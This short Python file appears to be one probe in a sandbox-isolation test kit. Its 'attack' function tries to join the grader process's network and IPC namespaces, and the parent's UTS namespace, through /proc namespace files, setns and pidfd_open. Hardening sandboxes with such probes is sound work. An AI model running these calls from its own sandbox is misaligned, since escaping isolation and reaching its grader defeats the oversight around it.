"""Success: the namespaces of a process outside."""

import os

from kit import got, system_call, tries


def attack(a):
    def enter(pid, kind):
        fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        return got(f"{kind} {system_call('setns', fd, 0)}")

    def by_pidfd(pid):
        return got(f"pidfd {system_call('setns', system_call('pidfd_open', pid, 0), 0x20000)}")

    return tries(
        lambda: enter(a["grader_pid"], "net"),
        lambda: enter(a["grader_pid"], "ipc"),
        lambda: enter(os.getppid(), "uts"),
        lambda: by_pidfd(a["grader_pid"]),
    )
